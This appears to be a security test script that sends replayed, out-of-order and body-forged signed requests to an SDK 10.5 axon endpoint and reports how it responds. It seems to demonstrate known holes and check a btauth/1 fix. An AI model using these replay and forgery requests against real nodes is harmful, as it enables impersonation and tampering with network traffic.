"""Requests that exploit the SDK 10.5 axon's known holes, sent to the axon at --endpoint.
Prints one JSON object per case: case, status (HTTP status code), and what came back.

- stale_without_version: a request signed an hour ago, its unsigned version header removed.
  The SDK checks freshness only for version >= 7.2.0, so a captured request replays forever.
- out_of_order: two requests of one dendrite (one uuid) arriving in the opposite order of their
  nonces, as concurrent requests do. The SDK's per-uuid "nonce > last" rejects the second.
- body_swap: a signed Dummy request whose dummy_input is changed in transit. Dummy hashes no
  field, so the v10 signature covers none of the body; the SDK answers the forged input.
- body_swap_btauth: the same forgery on a request that also carries btauth/1 (which signs the
  raw body); an SDK axon ignores btauth/1 headers.
"""
import argparse
import hashlib
import json
import time
import urllib.error
import urllib.request
import uuid as uuidlib

from sdk_common import offline, wallet

p = argparse.ArgumentParser()
p.add_argument("--wallet_path", required=True)
p.add_argument("--wallet_name", required=True)
p.add_argument("--endpoint", required=True)
p.add_argument("--axon_hotkey", required=True)
a = p.parse_args()
offline()

w = wallet(a.wallet_path, a.wallet_name)
kp = w.hotkey
EMPTY_HASH = hashlib.sha3_256(b"").hexdigest()
UUID = str(uuidlib.uuid4())


def request(dummy_input, nonce, *, version=True, body_input=None, btauth=False):
    """A v10-signed Dummy request; body_input forges the body after signing."""
    msg = f"{nonce}.{kp.ss58_address}.{a.axon_hotkey}.{UUID}.{EMPTY_HASH}"
    sig = "0x" + kp.sign(msg).hex()
    body = {"name": "Dummy", "timeout": 12.0, "dummy_input": dummy_input, "dummy_output": None}
    headers = {
        "name": "Dummy", "timeout": "12.0", "content-type": "application/json",
        "bt_header_axon_hotkey": a.axon_hotkey,
        "bt_header_dendrite_nonce": str(nonce), "bt_header_dendrite_uuid": UUID,
        "bt_header_dendrite_hotkey": kp.ss58_address, "bt_header_dendrite_signature": sig,
        "bt_header_input_obj_dummy_input": "MA==", "computed_body_hash": EMPTY_HASH,
    }
    if version:
        headers["bt_header_dendrite_version"] = "10005000"
    raw = json.dumps(body).encode()
    if btauth:
        payload = "\n".join(["btauth/1", "sr25519", "POST", "/Dummy",
                             hashlib.sha256(raw).hexdigest(), str(nonce), kp.ss58_address,
                             a.axon_hotkey])
        headers.update({"X-Bittensor-Version": "1", "X-Bittensor-Hotkey": kp.ss58_address,
                        "X-Bittensor-Receiver": a.axon_hotkey, "X-Bittensor-Nonce": str(nonce),
                        "X-Bittensor-Signature": "0x" + kp.sign(payload).hex()})
    if body_input is not None:
        body["dummy_input"] = body_input
        raw = json.dumps(body).encode()
    return headers, raw


def send(headers, raw):
    req = urllib.request.Request(f"http://{a.endpoint}/Dummy", data=raw, headers=headers,
                                 method="POST")
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, json.loads(r.read() or b"{}")
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


def report(case, results):
    print(json.dumps({"case": case, "results": [
        {"status": s, "dummy_output": b.get("dummy_output"), "message": b.get("message")}
        for s, b in results]}), flush=True)


now = time.time_ns()
report("stale_without_version",
       [send(*request(1, now - 3600 * 10**9, version=False))])
n1, n2 = time.time_ns(), time.time_ns() + 1000
later = request(2, n2)
earlier = request(3, n1)
report("out_of_order", [send(*later), send(*earlier)])
report("body_swap", [send(*request(4, time.time_ns(), body_input=400))])
report("body_swap_btauth", [send(*request(5, time.time_ns(), body_input=500, btauth=True))])
